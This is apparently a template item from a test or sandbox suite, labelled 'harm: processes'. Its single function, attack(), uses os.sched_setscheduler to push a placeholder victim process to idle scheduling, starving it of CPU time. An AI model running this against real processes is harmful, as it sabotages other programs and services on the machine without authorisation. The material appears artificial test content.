# harm: processes
import os


def attack() -> str:
    os.sched_setscheduler(@VICTIM@, os.SCHED_IDLE, os.sched_param(0))
    return "idle"
